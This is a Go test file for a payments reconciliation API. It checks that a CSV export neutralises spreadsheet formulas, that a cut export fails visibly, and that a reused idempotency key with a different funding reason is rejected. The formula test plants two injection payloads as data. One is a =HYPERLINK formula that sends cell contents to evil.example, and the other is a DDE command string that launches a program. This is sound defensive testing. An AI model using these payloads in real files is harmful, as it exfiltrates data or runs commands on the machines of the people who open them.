package api_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/saldo/saldo/api"
	"github.com/saldo/saldo/providers"
	"github.com/saldo/saldo/providers/sim"
	"github.com/saldo/saldo/reconcile"
)

// plantUnknownToUs plants one unknown_to_us divergence whose reference is
// what the provider's statement says (external text), and returns its id.
func plantUnknownToUs(t *testing.T, e *env, reference string) (string, time.Time) {
	t.Helper()
	rec, err := reconcile.New(reconcile.Config{Pool: e.pool, Attempts: e.att,
		Providers: map[string]providers.Provider{"sim": e.prov}, Clock: e.clock})
	require.NoError(t, err)
	day := reconcile.Day(e.clock.Now())
	require.NoError(t, e.srv.AddStatementLie(sim.StatementLie{Kind: sim.LieAdd, Reference: reference,
		Operation: providers.OpPixTransfer, Amount: "5.00", Currency: "BRL", At: e.clock.Now()}))
	e.clock.Set(day.Add(51 * time.Hour))
	_, err = rec.Run(e.ctx, "sim", day, reconcile.RunOptions{TriggeredBy: "test"})
	require.NoError(t, err)
	var id string
	require.NoError(t, e.pool.QueryRow(e.ctx, `SELECT id FROM reconcile_divergences WHERE kind = 'unknown_to_us'`).Scan(&id))
	return id, day
}

// CSV formula injection: text the API does not author (a provider
// statement's reference, an operator's free-text resolution reason) reaches
// the auditor's divergences.csv raw. A cell that starts with = + - @ TAB or
// CR is run as a formula by spreadsheet programs (=HYPERLINK exfiltration,
// DDE). Every such cell is neutralised (prefixed with ').
func TestDivergencesCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := reconcileEnv(t)
	const evilRef = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
	id, _ := plantUnknownToUs(t, e, evilRef)
	const evilReason = `=cmd|' /C calc'!A0`
	res := e.post("/v1/reconcile/divergences/"+id+"/resolution", e.operator, "rev-res-1", map[string]any{"reason": evilReason})
	require.Equal(t, http.StatusOK, res.Status, string(res.Body))

	r := e.get("/v1/reconcile/divergences.csv", e.auditor)
	require.Equal(t, http.StatusOK, r.Status)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	require.NoError(t, err)
	var bad []string
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				bad = append(bad, rows[0][i]+": "+cell)
			}
		}
	}
	require.Empty(t, bad, "cells a spreadsheet runs as formulas reach the auditor's export unescaped")
}

// A divergences export that fails after its first page does not look
// whole: like the ledger's exports, it aborts the connection
// (http.ErrAbortHandler) once the 200 is out, so the auditor's client sees
// an error, never a clean, truncated CSV.
func TestDivergencesCSVCutIsNotWhole(t *testing.T) {
	t.Parallel()
	e := reconcileEnv(t)
	id, _ := plantUnknownToUs(t, e, strings.Repeat("ab", 16))
	// 600 more rows, newest first; the oldest (on the second page) holds a
	// value the reader cannot scan (a date of 'infinity'): an error after
	// the first page went out.
	_, err := e.pool.Exec(e.ctx, `INSERT INTO reconcile_divergences (id, provider, day, kind, severity, fingerprint,
		reference, provider_id, attempt_id, subject_id, currency, detail, provider_side, our_side, status, first_run_id,
		last_run_id, seen_count, created_at, last_seen_at)
		SELECT 'dv_' || lpad(to_hex(g), 32, '0'), d.provider,
			CASE WHEN g = 600 THEN 'infinity'::date ELSE d.day END, d.kind, d.severity, d.fingerprint || '-' || g,
			d.reference, d.provider_id, d.attempt_id, d.subject_id, d.currency, d.detail, d.provider_side, d.our_side,
			'open', d.first_run_id, d.last_run_id, 1, d.created_at - g * interval '1 second', d.last_seen_at
		FROM reconcile_divergences d, generate_series(1, 600) g WHERE d.id = $1`, id)
	require.NoError(t, err)

	hr, err := http.NewRequestWithContext(e.ctx, http.MethodGet, e.http.URL+"/v1/reconcile/divergences.csv", nil)
	require.NoError(t, err)
	hr.Header.Set("Authorization", "Bearer "+e.auditor)
	hres, err := http.DefaultClient.Do(hr)
	require.NoError(t, err)
	defer hres.Body.Close()
	body, readErr := io.ReadAll(hres.Body)
	rows, _ := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	t.Logf("status %d, %d data rows, read error %v", hres.StatusCode, len(rows)-1, readErr)
	require.Contains(t, e.logs.String(), "divergences csv export aborted", "the export did fail mid-way")
	require.Error(t, readErr, "a cut export arrived as a whole one (%d of 601 rows, status %d)", len(rows)-1, hres.StatusCode)
}

// R4/R5: the same Idempotency-Key with another body is 422, never a
// silent replay. A funding's ledger key outlives the API's 24 h record
// (TestFundingKeyReusedAfterRetentionIs422 covers another amount), but the
// ledger compares only cause and legs, so merchants.Fund compares the
// reason: a repeat with the same amount and another reason is 422, never
// a 201 with the first funding while the second adjustment is not posted.
func TestFundingKeyReusedWithAnotherReasonIs422_R4(t *testing.T) {
	t.Parallel()
	e := setup(t, sim.Config{})
	path := "/v1/merchants/m2/fundings"
	r := e.post(path, e.admin, "rev-fund-1", map[string]any{"amount": "10.00", "currency": "BRL", "reason": "top up, invoice 1"})
	require.Equal(t, http.StatusCreated, r.Status, string(r.Body))
	// Within the retention the API's own record refuses it.
	in := e.post(path, e.admin, "rev-fund-1", map[string]any{"amount": "10.00", "currency": "BRL", "reason": "top up, invoice 2"})
	require.Equal(t, http.StatusUnprocessableEntity, in.Status, string(in.Body))
	_, err := api.CleanupIdempotency(e.ctx, e.pool, time.Now().Add(time.Hour))
	require.NoError(t, err)
	before := e.countRows("ledger_transactions")
	out := e.post(path, e.admin, "rev-fund-1", map[string]any{"amount": "10.00", "currency": "BRL", "reason": "top up, invoice 2"})
	require.Equal(t, before, e.countRows("ledger_transactions"))
	require.Equal(t, http.StatusUnprocessableEntity, out.Status,
		"another body under the same key was answered with the first funding: %s", out.Body)
}
